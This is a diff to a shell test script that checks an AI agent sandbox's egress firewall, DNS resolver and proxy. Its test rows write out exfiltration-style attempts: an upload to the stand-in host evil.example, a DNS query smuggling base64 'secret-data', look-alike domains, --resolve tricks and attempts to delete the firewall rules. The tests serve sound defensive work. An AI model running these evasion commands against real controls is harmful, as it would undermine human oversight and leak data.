@@ -20,7 +20,7 @@ trap cleanup EXIT
 
 in_agent() { ip netns exec "$agent" setpriv --reuid "${AS:-1000}" --regid "${AS:-1000}" --clear-groups --no-new-privs --bounding-set -all --inh-caps -all "$@"; }
 background() { "$@" >>"$work/log" 2>&1 & pids+=($!); }
-eventually() { local n; for ((n = 0; n < 50; n++)); do "$@" && return; sleep 0.1; done; echo "egress.sh: \`$*\` did not come true" >&2; tail "$work/log" >&2; exit 1; }
+eventually() { local n; for ((n = 0; n < 100; n++)); do "$@" 2>/dev/null && return; sleep 0.1; done; echo "egress.sh: \`$*\` did not come true" >&2; tail "$work/log" >&2; exit 1; }
 
 row() { # row NAME yes|no COMMAND...: whether the command must succeed
   local name=$1 wanted=$2 got=no
@@ -55,8 +55,8 @@ background ip netns exec "$world" python3 tests/world.py "$work/cert" "$work/key
 background ip netns exec "$world" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --pid-file --user=root \
   --listen-address="$resolver,10.99.0.53" --bind-interfaces --log-queries --log-facility="$work/questions" \
   --address=/api.anthropic.com/github.com/10.99.0.10 --address=/ghcr.io/10.99.0.11 --address=/example/com/10.99.0.66
-eventually ip netns exec "$world" bash -c "exec 3<>/dev/tcp/10.99.0.10/443" 2>/dev/null
-eventually ip netns exec "$world" bash -c "exec 3<>/dev/tcp/$resolver/53" 2>/dev/null
+eventually ip netns exec "$world" bash -c "exec 3<>/dev/tcp/10.99.0.10/443"
+eventually ip netns exec "$world" bash -c "exec 3<>/dev/tcp/$resolver/53"
 
 fetch() { in_agent curl -sSf --cacert "$work/cert" --connect-timeout 3 --max-time 6 "$@"; }
 reaches() { local wanted=$1; shift; [[ $(fetch "$@") == "$wanted" ]]; }
@@ -64,29 +64,33 @@ chmod 755 "$work"
 chmod 644 "$work/cert"
 mkdir -p "/etc/netns/$agent"
 echo "nameserver $resolver" >"/etc/netns/$agent/resolv.conf"
-row "open: without a fence the forbidden host answers" yes reaches 10.99.0.66 --cacert /dev/null -k https://evil.example/
 
+# Every forbidden way must work where there is no fence, or its row would pass for another reason.
+forbidden() { # forbidden PREFIX yes|no
+  row "$1: another host" "$2" fetch -k https://evil.example/
+  row "$1: a look-alike behind a listed name" "$2" fetch -k https://api.anthropic.com.evil.example/
+  row "$1: a look-alike before a listed name" "$2" fetch -k https://evil-api.anthropic.com.example/
+  row "$1: an address instead of a name" "$2" fetch -k https://10.99.0.66/
+  row "$1: --resolve to a forbidden address" "$2" fetch -k --resolve api.anthropic.com:443:10.99.0.66 https://api.anthropic.com/
+  row "$1: another port of a listed host" "$2" fetch http://api.anthropic.com:80/
+  row "$1: port 22 of a host that is listed for 443" "$2" in_agent timeout 3 bash -c 'exec 3<>/dev/tcp/ghcr.io/22'
+  row "$1: another resolver" "$2" in_agent timeout 3 python3 tests/ask.py 10.99.0.53 api.anthropic.com
+  row "$1: the site's resolver, asked by the agent itself" "$2" in_agent timeout 3 python3 tests/ask.py "$resolver" api.anthropic.com
+  row "$1: an upload to a forbidden host" "$2" fetch -k -T "$work/cert" https://evil.example/
+}
+forbidden "no fence" yes
 echo "nameserver 127.0.0.1" >"/etc/netns/$agent/resolv.conf"
 trap 'rm -rf "/etc/netns/$agent"; cleanup' EXIT
 ip netns exec "$agent" nft -f "$generated/egress.nft"
 background ip netns exec "$agent" dnsmasq --keep-in-foreground --log-facility=- --pid-file --conf-file="$PWD/$generated/dnsmasq.conf"
-eventually ip netns exec "$agent" bash -c "exec 3<>/dev/tcp/127.0.0.1/53" 2>/dev/null
+eventually ip netns exec "$agent" bash -c "exec 3<>/dev/tcp/127.0.0.1/53"
 : >"$work/questions"
 row "nftables: a listed host" yes reaches 10.99.0.10 https://api.anthropic.com/
 row "nftables: a name below a listed domain" yes reaches 10.99.0.10 https://api.github.com/
 row "nftables: the site's network" yes reaches "$lan" -k "https://$lan/"
-row "nftables: another host" no fetch https://evil.example/
-row "nftables: a look-alike behind a listed name" no fetch -k https://api.anthropic.com.evil.example/
-row "nftables: a look-alike before a listed name" no fetch -k https://evil-api.anthropic.com.example/
-row "nftables: an address instead of a name" no fetch -k https://10.99.0.66/
-row "nftables: --resolve to a forbidden address" no fetch -k --resolve api.anthropic.com:443:10.99.0.66 https://api.anthropic.com/
-row "nftables: another port of a listed host" no fetch http://api.anthropic.com:80/
-row "nftables: port 22 of a host that is listed for 443" no in_agent timeout 3 bash -c 'exec 3<>/dev/tcp/ghcr.io/22'
-row "nftables: another resolver" no in_agent timeout 3 python3 tests/ask.py 10.99.0.53 api.anthropic.com
-row "nftables: the site's resolver, asked by the agent itself" no in_agent timeout 3 python3 tests/ask.py "$resolver" api.anthropic.com
+forbidden nftables no
 row "nftables: a question that carries data" no in_agent timeout 3 python3 tests/ask.py 127.0.0.1 c2VjcmV0LWRhdGE.evil.example
 row "nftables: no such question left the pod" no grep -q 'evil.example' "$work/questions"
-row "nftables: an upload to a forbidden host" no fetch -k -T "$work/cert" https://evil.example/
 row "nftables: UID 1000 removes the rules" no in_agent nft delete table inet guard_egress
 row "nftables: UID 1000 adds an address to a set" no in_agent nft add element inet guard_egress ports_443 '{ 10.99.0.66 }'
 row "nftables: UID 1000 ends the resolver" no in_agent kill "${pids[-1]}"
@@ -101,11 +105,12 @@ ip -n "$agent" route del default
 ip -n "$agent" address flush dev out
 ip -n "$agent" address add 10.98.0.2/24 dev out
 ip -n "$world" address add 10.98.0.1/24 dev in
-mkdir "$work/spool"
-chown 13:13 "$work/spool"
 # Only the address to listen on is the test's.
 sed "s/^http_port .*/http_port 10.98.0.1:3128/" "$generated/squid.conf" >"$work/squid.conf"
-background ip netns exec "$world" setpriv --reuid 13 --regid 13 --clear-groups --no-new-privs --bounding-set -all --inh-caps -all squid -N -f "$work/squid.conf"
+# shellcheck disable=SC2016 # the inner shell expands it
+# As in a container, its output is a pipe of its own user's.
+background ip netns exec "$world" setpriv --reuid 13 --regid 13 --clear-groups --no-new-privs --bounding-set -all --inh-caps -all \
+  bash -c 'exec > >(exec cat) 2>&1; exec squid -N -f "$1"' _ "$work/squid.conf"
 eventually ip netns exec "$world" bash -c "exec 3<>/dev/tcp/10.98.0.1/3128" 2>/dev/null
 proxied() { fetch --proxy http://10.98.0.1:3128 "$@"; }
 through() { local wanted=$1; shift; [[ $(proxied "$@") == "$wanted" ]]; }
@@ -117,7 +122,8 @@ row "proxy: a look-alike before a listed name" no proxied -k https://evil-github
 row "proxy: an address instead of a name" no proxied -k https://10.99.0.10/
 row "proxy: --resolve to a forbidden address" no proxied -k --resolve evil.example:443:10.99.0.10 https://evil.example/
 row "proxy: another port of a listed host" no proxied -k https://api.anthropic.com:8443/
-row "proxy: port 22 of a host that is listed for 443" no proxied -k https://ghcr.io:22/
+row "proxy: port 22 of a host that is listed for it" yes through 10.99.0.10 --proxytunnel http://github.com:22/
+row "proxy: port 22 of a host that is listed for 443" no proxied --proxytunnel http://ghcr.io:22/
 row "proxy: plain HTTP, which the proxy could read and cannot judge" no proxied http://api.anthropic.com/
 row "proxy: an upload through the proxy to a forbidden host" no proxied -k -T "$work/cert" https://evil.example/
 row "proxy: around the proxy" no fetch -k --resolve api.anthropic.com:443:10.99.0.10 https://api.anthropic.com/
